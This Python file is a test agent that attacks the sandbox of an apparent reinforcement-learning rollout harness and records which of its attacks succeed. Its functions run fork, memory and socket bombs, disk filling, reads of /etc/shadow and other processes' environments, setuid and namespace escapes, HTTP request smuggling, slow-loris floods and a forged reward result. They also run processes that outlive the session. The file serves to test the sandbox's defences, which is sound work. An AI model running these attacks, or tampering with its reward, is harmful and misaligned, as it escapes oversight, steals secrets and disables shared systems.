"""An agent that attacks: its prompt is JSON with an attack's name and what that needs to know. Standard library only.

Each attempt is recorded as refused (null) or with what it got; the record is the agent's answer. `honest` plays on.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import mmap
import os
import resource
import signal
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Callable
from typing import Any
from urllib.parse import urlsplit

FACTS: dict[str, Any] = json.loads(sys.stdin.read())
BASE = os.environ["OPENAI_BASE_URL"]
HOST, PORT = urlsplit(BASE).hostname, urlsplit(BASE).port
TOKEN = urlsplit(BASE).path.split("/")[2]
RESULT = os.environ["RLVR_RESULT"]
RECORD: dict[str, Any] = {}
libc = ctypes.CDLL(None, use_errno=True)


def attempt(name: str, action: Callable[[], Any]) -> None:
    try:
        got = action()
        RECORD[name] = "done" if got is None else repr(got)[:200]
    except (OSError, MemoryError, ValueError) as error:
        RECORD[name] = None
        RECORD.setdefault("errors", {})[name] = f"{type(error).__name__}: {error}"[:100]


def call(number: int, *arguments: Any) -> int:
    ctypes.set_errno(0)
    got = libc.syscall(ctypes.c_long(number), *(ctypes.c_void_p(a) if isinstance(a, int) else a for a in arguments))
    if got < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return got


def ask(content: str = "hello", seconds: float = 60.0) -> str:
    body = json.dumps({"model": "any", "messages": [{"role": "user", "content": content}]}).encode()
    request = urllib.request.Request(f"{BASE}/chat/completions", body, {"content-type": "application/json"})
    with urllib.request.urlopen(request, timeout=seconds) as response:
        return json.load(response)["choices"][0]["message"]["content"]


def read(path: str) -> bytes:
    with open(path, "rb") as file:
        return file.read(100)


def connect(seconds: float = 20.0) -> socket.socket:
    made = socket.create_connection((HOST, PORT), timeout=seconds)
    return made


def honest() -> None:
    RECORD["said"] = ask()


def read_files() -> None:
    for path in FACTS["files"]:
        attempt(f"read {path}", lambda path=path: read(path))
        attempt(f"list {os.path.dirname(path)}", lambda path=path: os.listdir(os.path.dirname(path)))
    for path in ("/etc/shadow", "/root/.bashrc", "/proc/1/root/etc/shadow", "/proc/kcore", "/dev/mem", "/sys/kernel"):
        attempt(f"read {path}", lambda path=path: read(path))


def read_processes() -> None:
    own = {number: os.readlink(f"/proc/self/fd/{number}") for number in range(3, 1024) if is_open(number)}
    RECORD["descriptors"] = own or None
    driver = FACTS["driver"]
    for name in ("mem", "environ", "maps", "cmdline", "root/etc/passwd", "cwd"):
        attempt(f"driver {name}", lambda name=name: read(f"/proc/{driver}/{name}"))
    for name in ("mem", "environ", "maps", "root/etc/passwd", "fd/0", "fd/3", "cwd/x"):
        attempt(f"init {name}", lambda name=name: read(f"/proc/1/{name}"))
    for pid in (1, driver):
        attempt(f"attach {pid}", lambda pid=pid: check(libc.ptrace(16, pid, None, None)))
        attempt(f"getfd {pid}", lambda pid=pid: call(438, os.pidfd_open(pid), 0, 0))
    mine = {str(os.getpid()), "1", "self", "thread-self"}
    seen = [name for name in os.listdir("/proc") if name not in mine]
    RECORD["other processes"] = seen or None


def is_open(number: int) -> bool:
    try:
        os.fstat(number)
    except OSError:
        return False
    return True


def check(got: int) -> int:
    if got < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return got


def send_signals() -> None:
    driver = FACTS["driver"]
    attempt("signal the driver", lambda: os.kill(driver, 0))
    attempt("signal its group", lambda: os.killpg(driver, 0))
    for number in range(1, 65):  # pid 1 has no handler but SIGCHLD's: none of these reaches it
        with contextlib.suppress(OSError):
            os.kill(1, number)
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGKILL)  # all but itself and pid 1
    attempt("limit pid 1", lambda: resource.prlimit(1, resource.RLIMIT_CPU, (0, 0)))
    RECORD["said"] = ask()


def stay_alive() -> None:
    for how in ("setsid", "nohup"):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
                    signal.signal(number, signal.SIG_IGN)
                os.environ.clear()
                words = ["nohup"] if how == "nohup" else []
                os.execvp(
                    (words or [sys.executable])[0],
                    [*words, sys.executable, "-c", "import time; time.sleep(600)", FACTS["marker"]],
                )
            os._exit(0)
    time.sleep(0.3)
    RECORD["started"] = True


def fork_bomb() -> None:
    made = 0
    try:
        for _ in range(5_000):
            if os.fork() == 0:
                with contextlib.suppress(OSError):
                    os.setsid()
                    os.fork()
                time.sleep(600)
            made += 1
    except OSError as error:
        RECORD["stopped"] = type(error).__name__
    RECORD["made"] = made
    time.sleep(0.5)


def memory_alone() -> None:
    attempt("one large block", lambda: len(bytearray(8 << 30)))
    attempt("shared block", lambda: mmap.mmap(-1, 1 << 30))
    attempt("memory file", lambda: os.memfd_create("x"))
    attempt("System V", lambda: check(libc.shmget(0, 1 << 30, 0o1600)))
    attempt("raise the limit", lambda: resource.setrlimit(resource.RLIMIT_DATA, (1 << 40, 1 << 40)))


def memory_bomb() -> None:
    for _ in range(40):  # each within the limit, together far beyond it
        if os.fork() == 0:
            kept = bytearray(100 << 20)
            for at in range(0, len(kept), 4096):
                kept[at] = 1
            time.sleep(600)
    time.sleep(600)


def socket_bomb() -> None:
    """Memory in the buffers of sockets, which no process owns."""
    for _ in range(30):
        if os.fork() == 0:
            kept: list[Any] = []
            with contextlib.suppress(OSError):
                while True:
                    kept.append(socket.socketpair())
                    kept[-1][0].setblocking(False)
                    with contextlib.suppress(BlockingIOError):
                        while kept[-1][0].send(bytes(1 << 16)):
                            pass
            time.sleep(600)
    time.sleep(600)


def fill_disk() -> None:
    def write_all(name: str) -> None:
        with open(name, "wb", buffering=0) as file:
            while file.write(bytes(1 << 20)):
                pass

    def sparse() -> None:
        with open("sparse", "wb") as file:
            file.truncate(1 << 40)

    def count_files() -> None:
        for number in range(3_000_000):
            open(f"many{number}", "w").close()

    attempt("one large file", lambda: write_all("large"))
    attempt("second large file", lambda: write_all("/dev/shm/large"))
    attempt("sparse file", sparse)
    attempt("many files", count_files)
    for name in os.listdir("."):
        if name.startswith(("many", "large", "sparse")):
            os.unlink(name)
    os.unlink("/dev/shm/large")


def open_sockets() -> None:
    def reach(family: int, kind: int, address: Any) -> None:
        with socket.socket(family, kind) as made:
            made.settimeout(3)
            made.connect(address)
            if kind == socket.SOCK_DGRAM:
                made.send(b"x")

    attempt("host's service", lambda: reach(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", FACTS["port"])))
    attempt("host's address", lambda: reach(socket.AF_INET, socket.SOCK_STREAM, (FACTS["address"], FACTS["port"])))
    attempt("outside", lambda: reach(socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 53)))
    attempt("outside by UDP", lambda: reach(socket.AF_INET, socket.SOCK_DGRAM, ("8.8.8.8", 53)))
    attempt("outside by IPv6", lambda: reach(socket.AF_INET6, socket.SOCK_STREAM, ("2606:4700::1111", 53)))
    attempt("metadata service", lambda: reach(socket.AF_INET, socket.SOCK_STREAM, ("169.254.169.254", 80)))
    attempt("abstract socket", lambda: reach(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + FACTS["abstract"]))
    attempt("socket's path", lambda: reach(socket.AF_UNIX, socket.SOCK_STREAM, FACTS["socket"]))
    attempt("name service", lambda: socket.getaddrinfo("example.com", 80))
    for family in (40, 17, 38, 31):  # vsock, packet, alg, bluetooth
        attempt(f"family {family}", lambda family=family: socket.socket(family, socket.SOCK_STREAM).close())
    attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).close())


def request(path: str, method: str = "GET", body: bytes | None = None) -> str:
    made = urllib.request.Request(f"http://{HOST}:{PORT}{path}", body, method=method)
    try:
        with urllib.request.urlopen(made, timeout=20) as response:
            return response.read(200).decode()
    except urllib.error.HTTPError as error:
        raise OSError(f"HTTP {error.code}") from error


def other_rollouts() -> None:
    body = json.dumps({"model": "x", "messages": [{"role": "user", "content": "steal"}]}).encode()
    attempt("list", lambda: request("/r/"))
    attempt("root", lambda: request("/"))
    attempt("models without token", lambda: request("/v1/models"))
    attempt("schema", lambda: request("/openapi.json"))
    for guess in ("*", "%2e%2e", TOKEN[:-1], TOKEN.swapcase(), TOKEN + "x", "", "0"):
        attempt(f"guess {guess}", lambda guess=guess: request(f"/r/{guess}/v1/chat/completions", "POST", body))
    found = b""
    for name in os.listdir("/proc"):
        if name.isdecimal() and int(name) != os.getpid():
            with contextlib.suppress(OSError):
                found += read(f"/proc/{name}/environ")
    RECORD["environments"] = found.decode(errors="replace") or None
    RECORD["said"] = ask()


def write_prefix() -> None:
    for folder in (
        sys.prefix,
        sys.base_prefix,
        os.path.dirname(os.__file__),
        "/usr/bin",
        "/etc",
        "/",
        "/proc/sys",
        "/run",
    ):
        attempt(f"create in {folder}", lambda folder=folder: open(f"{folder}/escaped", "w").close())
    for file in (os.__file__, __file__, "/etc/passwd", "/etc/hosts"):
        attempt(f"write {file}", lambda file=file: open(file, "a").close())
        attempt(f"chmod {file}", lambda file=file: os.chmod(file, 0o777))
        attempt(f"rename {file}", lambda file=file: os.rename(file, file + ".old"))
    attempt("core pattern", lambda: open("/proc/sys/kernel/core_pattern", "w").close())


def escape() -> None:
    new_user = 0x10000000
    attempt("mount", lambda: check(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)))
    attempt("remount", lambda: check(libc.mount(b"none", b"/usr", b"", 4096 | 32, None)))
    attempt("umount", lambda: check(libc.umount2(b"/proc", 2)))
    attempt("unshare", lambda: check(libc.unshare(new_user)))
    attempt("unshare network", lambda: check(libc.unshare(0x40000000)))
    attempt("chroot", lambda: os.chroot("/tmp"))
    for name in ("user", "mnt", "net", "pid"):
        attempt(f"setns {name}", lambda name=name: check(libc.setns(os.open(f"/proc/1/ns/{name}", os.O_RDONLY), 0)))
    attempt("clone", lambda: call(FACTS["clone"], new_user | 17, 0, 0, 0, 0))
    attempt("clone3", lambda: call(435, 0, 88))
    attempt("device", lambda: os.mknod("disk", 0o60600, os.makedev(8, 0)))
    attempt("terminal", lambda: check(libc.ioctl(0, 0x5412, b"x")))
    attempt("newer calls", lambda: call(FACTS["newest"] + 1))


def denied_calls() -> None:
    for name, number in FACTS["calls"].items():
        attempt(name, lambda number=number: call(number, 0, 0, 0, 0, 0, 0))


def become_root() -> None:
    attempt("setuid", lambda: os.setuid(0))
    attempt("setresuid", lambda: os.setresuid(0, 0, 0))
    attempt("setgroups", lambda: os.setgroups([0]))
    attempt("su", run_su)
    with open("/proc/self/status") as file:
        status = {name: value.strip() for name, _, value in (line.partition(":") for line in file)}
    RECORD["capabilities"] = (
        "".join(status[name].strip("0") for name in ("CapEff", "CapPrm", "CapBnd", "CapAmb")) or None
    )
    RECORD["may gain"] = None if status["NoNewPrivs"] == "1" else status["NoNewPrivs"]


def run_su() -> str:
    ended = subprocess.run(["su", "-c", "id -u"], capture_output=True, stdin=subprocess.DEVNULL)
    if ended.returncode:
        raise OSError(ended.stderr.decode()[:60])
    return ended.stdout.decode()


def trace_sibling() -> None:
    child = os.fork()
    if child == 0:
        time.sleep(600)
    attempt("attach", lambda: check(libc.ptrace(16, child, None, None)))
    attempt("read memory", lambda: call(FACTS["calls"]["process_vm_readv"], child, 0, 0, 0, 0, 0))
    os.kill(child, signal.SIGKILL)


def result_symlink() -> None:
    os.symlink(FACTS["files"][0], RESULT)


def result_link_inside() -> None:
    with open("real.json", "w") as file:
        file.write('{"reward": 1}')
    os.symlink("real.json", RESULT)


def result_hardlink() -> None:
    attempt("link out", lambda: os.link(os.__file__, "out"))
    attempt("link passwd", lambda: os.link("/etc/passwd", RESULT))


def result_fifo() -> None:
    os.mkfifo(RESULT)


def result_folder() -> None:
    os.mkdir(RESULT)


def result_device() -> None:
    attempt("device", lambda: os.mknod(RESULT, 0o20600, os.makedev(1, 5)))
    os.symlink("/dev/urandom", RESULT)


def result_socket() -> None:
    socket.socket(socket.AF_UNIX).bind(RESULT)


def result_sparse() -> None:
    with open(RESULT, "wb") as file:
        file.truncate(60 << 20)


def result_changes() -> None:
    """A child goes on changing the result file after the end."""
    if os.fork() == 0:
        while True:
            with contextlib.suppress(OSError):
                os.unlink(RESULT)
            with contextlib.suppress(OSError):
                os.symlink(FACTS["files"][0], RESULT)
    time.sleep(0.2)


def deep_folder() -> None:
    for _ in range(3_000):
        os.mkdir("d", 0o700)
        os.chdir("d")
    os.chmod(".", 0)


def endless_output() -> None:
    piece = b"noise " * 10_000
    while True:
        os.write(1, piece)


def odd_output() -> None:
    os.write(1, b"\xff\xfe\x00\x80" + bytes(range(256)) + b"\xed\xa0\x80 end")


def escape_codes() -> None:
    os.write(1, b"\x1b]0;owned\x07\x1b[2J\x1b[31mred\r\x9b5i\xe2\x80\xaetxt")
    sys.exit(3)


def odd_result() -> None:
    with open(RESULT, "w") as file:
        file.write(FACTS["result"])


def ignore_signals() -> None:
    for number in range(1, 65):
        with contextlib.suppress(OSError, ValueError):
            signal.signal(number, signal.SIG_IGN)
    if os.fork() == 0:
        os.setsid()
    time.sleep(600)


def exhaust_descriptors() -> None:
    kept: list[Any] = []
    with contextlib.suppress(OSError):
        while len(kept) < 100_000:
            kept.append(os.dup(0))
    RECORD["descriptors"] = len(kept)
    for descriptor in kept[-20:]:
        os.close(descriptor)
    RECORD["said"] = ask()


def slow_loris() -> None:
    kept: list[socket.socket] = []
    for _ in range(300):
        with contextlib.suppress(OSError):
            made = connect(0.2)
            made.sendall(f"POST /r/{TOKEN}/v1/chat/completions HTTP/1.1\r\nHost: x\r\nX-A: ".encode())
            kept.append(made)
    RECORD["opened"] = len(kept)
    while True:
        for made in kept:
            with contextlib.suppress(OSError):
                made.send(b"a")
        time.sleep(0.2)


def many_connections() -> None:
    kept: list[socket.socket] = []
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[0]
    RECORD["descriptors"] = limit

    def open_some() -> None:
        for _ in range(800):
            with contextlib.suppress(OSError):
                made = socket.socket()
                made.setblocking(False)
                with contextlib.suppress(BlockingIOError):
                    made.connect((HOST, PORT))
                kept.append(made)

    for _ in range(12):
        if os.fork() == 0:
            open_some()
            time.sleep(600)
    time.sleep(1.5)
    RECORD["opened"] = True


def huge_bodies() -> None:
    head = f"POST /r/{TOKEN}/v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n"
    answers: list[bytes] = []

    def send(length: int, given: int) -> None:
        with contextlib.suppress(OSError), connect() as made:
            with contextlib.suppress(OSError):
                made.sendall((head % length).encode())
                left = given
                while left > 0:
                    left -= made.send(b"x" * min(left, 1 << 16))
            made.settimeout(3)
            answers.append(made.recv(4096).split(b"\r\n")[0])

    attempt("long body", lambda: send(17 << 20, 17 << 20))
    threads = [threading.Thread(target=send, args=(15 << 20, (15 << 20) - 1)) for _ in range(12)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    RECORD["answers"] = sorted(answer.decode(errors="replace") for answer in answers)


def smuggle() -> None:
    inner = json.dumps({"model": "x", "messages": [{"role": "user", "content": "smuggled"}]})
    other = f"/r/{FACTS['guess']}/v1/chat/completions"
    second = f"POST {other} HTTP/1.1\r\nHost: x\r\nContent-Length: {len(inner)}\r\n\r\n{inner}"
    path = f"/r/{TOKEN}/v1/chat/completions"
    post = f"POST {path} HTTP/1.1\r\nHost: x\r\n"
    heads = {
        "both lengths": f"{post}Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "two lengths": f"{post}Content-Length: 0\r\nContent-Length: 44\r\n\r\n",
        "odd coding": f"{post}Transfer-Encoding: xchunked\r\nContent-Length: 4\r\n\r\nabcd",
        "bare newlines": f"POST {path} HTTP/1.1\nHost: x\nContent-Length: 0\n\n",
        "space before colon": f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Length : 5\r\n\r\n12345",
        "absolute": f"GET http://elsewhere/r/{FACTS['guess']}/v1/models HTTP/1.1\r\nHost: x\r\n\r\n",
        "dots": f"GET /r/{TOKEN}/../{FACTS['guess']}/v1/models HTTP/1.1\r\nHost: x\r\n\r\n",
        "upgrade": f"GET {path} HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
    }
    lines: dict[str, list[str]] = {}
    for name, head in heads.items():
        got = b""
        with contextlib.suppress(OSError), connect() as made:
            made.sendall((head + second).encode())
            made.settimeout(1.0)
            while piece := made.recv(4096):
                got += piece
        lines[name] = [line for line in got.decode(errors="replace").split("\r\n") if line.startswith("HTTP/")]
    RECORD["lines"] = lines
    RECORD["said"] = ask()


def reach_after_end() -> None:
    """A child that would call for ever; the driver ends the rollout with the agent."""
    if os.fork() == 0:
        os.setsid()
        while True:
            with contextlib.suppress(Exception):
                ask("late", 5)
    RECORD["said"] = ask()


def write_result() -> None:
    with open(RESULT, "w") as file:
        json.dump({"answer": json.dumps(RECORD)}, file)


if __name__ == "__main__":
    assert os.uname().nodename == "agent", "there is no sandbox, and some of these attacks would do harm"
    globals()[FACTS["attack"]]()
    if not FACTS["attack"].startswith(("result_", "odd_", "escape_codes")):
        os.chdir(os.path.dirname(RESULT))
        write_result()
